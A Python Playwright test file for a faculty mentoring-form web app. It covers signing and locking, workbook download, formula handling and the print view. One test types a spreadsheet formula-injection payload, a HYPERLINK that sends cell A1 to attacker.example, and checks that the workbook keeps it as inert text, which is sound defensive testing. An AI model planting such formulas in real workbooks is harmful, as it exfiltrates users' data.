"""Signing locks the form; the workbook downloads and opens; formulas typed stay text; print view."""

from __future__ import annotations

import datetime as dt

from openpyxl import load_workbook
from pages import field, form_url, open_form, press
from playwright.sync_api import expect
from ui_answers import complete_answers

from mentorforms.forms import get_form
from mentorforms.records.store import DataFolder
from mentorforms.rules.validation import check_draft
from mentorforms.vocabulary.record import Record, Status
from mentorforms.workbooks.workbook import read_record


def saved_draft(folder: DataFolder, person, year, **changes):
    """A complete Part I saved as a draft for ``person`` (what a user would have typed earlier)."""
    form = get_form("conference_part1", year)
    values = check_draft(form, complete_answers(form) | changes)
    folder.save(Record("conference_part1", form.version, year, person.person_id, person.department, Status.DRAFT,
                       values, saved_by=person.person_id), person_name=person.name)
    return values


def test_sign_and_see_the_form_locked_then_an_edit_needs_signing_again(
        serve_as, page, take_person, browser_data, spare_year):
    person = take_person("conference_part1", year=spare_year)
    folder = DataFolder(browser_data)
    saved_draft(folder, person, spare_year)
    open_form(page, form_url(serve_as(demo=True), "conference_part1", person.person_id, year=spare_year,
                             as_=person.person_id))
    signature = field(page, "faculty_signature")
    signature.locator(".mf-signature-name input").fill(person.name)
    signature.locator(".mf-sign").click()
    expect(page.locator(".mf-result")).to_contain_text("Signed: version 2")

    expect(page.locator(".mf-status-line")).to_contain_text("Signed")
    expect(page.locator(".mf-status-line")).to_contain_text("read-only")
    expect(field(page, "challenges").locator("textarea")).to_be_disabled()
    expect(field(page, "hours_courses").locator("input")).to_be_disabled()
    expect(signature.locator(".mf-signature-name input")).to_be_disabled()
    expect(page.locator(".mf-save-draft")).to_be_hidden()
    expect(page.locator(".mf-submit")).to_be_hidden()
    expect(signature).to_contain_text(f"Signed by {person.name} on")
    record = folder.latest("conference_part1", spare_year, person.person_id)
    assert record.status is Status.SIGNED and record.values["faculty_signature"].date == dt.date.today()

    page.locator(".mf-edit").click()
    expect(page.locator(".mf-notice-line")).to_contain_text("must be signed again")
    field(page, "challenges").locator("textarea").fill("A change after signing")
    press(page, "mf-save-draft", "Draft saved as version 3")
    expect(page.locator(".mf-notice-line")).to_contain_text("signed again")
    record = folder.latest("conference_part1", spare_year, person.person_id)
    assert record.status is Status.DRAFT and "faculty_signature" not in record.values


def test_download_the_workbook_and_open_it(serve_as, page, take_person, browser_data, spare_year, tmp_path):
    person = take_person("conference_part1", year=spare_year)
    values = saved_draft(DataFolder(browser_data), person, spare_year)
    open_form(page, form_url(serve_as(demo=True), "conference_part1", person.person_id, year=spare_year,
                             as_=person.person_id))
    page.locator(".mf-download-button").click()
    with page.expect_download() as download_info:
        page.locator("a.mf-download").click()
    download = download_info.value
    assert download.suggested_filename == f"conference_part1_{spare_year.label}_{person.person_id}_v0001.xlsx"
    target = tmp_path / download.suggested_filename
    download.save_as(target)
    record = read_record(target)
    assert record.person_id == person.person_id and dict(record.values) == values


def test_a_formula_typed_into_a_text_field_is_plain_text_in_the_workbook(
        serve_as, page, take_person, browser_data, spare_year, tmp_path):
    person = take_person("conference_part1", year=spare_year)
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your CV")'
    open_form(page, form_url(serve_as(demo=True), "conference_part1", person.person_id, year=spare_year,
                             as_=person.person_id))
    field(page, "challenges").locator("textarea").fill(formula)
    field(page, "work_time_other").locator("input").fill("=1+1")
    press(page, "mf-save-draft", "Draft saved as version 1")
    page.locator(".mf-download-button").click()
    with page.expect_download() as download_info:
        page.locator("a.mf-download").click()
    target = tmp_path / "part1.xlsx"
    download_info.value.save_as(target)

    record = read_record(target)
    assert record.values["challenges"] == formula and record.values["work_time_other"] == "=1+1"
    book = load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formula in [cell.value for cell in cells]


def test_print_view_shows_the_filled_form(serve_as, page, take_person, browser_data, spare_year):
    person = take_person("conference_part1", year=spare_year)
    saved_draft(DataFolder(browser_data), person, spare_year, challenges="Printed <exactly> as typed")
    open_form(page, form_url(serve_as(demo=True), "conference_part1", person.person_id, year=spare_year,
                             as_=person.person_id))
    page.locator(".mf-print-toggle").click()
    frame = page.frame_locator("iframe.mf-print-frame")
    expect(frame.locator("h1")).to_contain_text("Faculty Form (Part I)")
    expect(frame.locator("[data-field=challenges] .mfp-answer")).to_have_text("Printed <exactly> as typed")
    expect(frame.locator("button", has_text="Print")).to_be_visible()
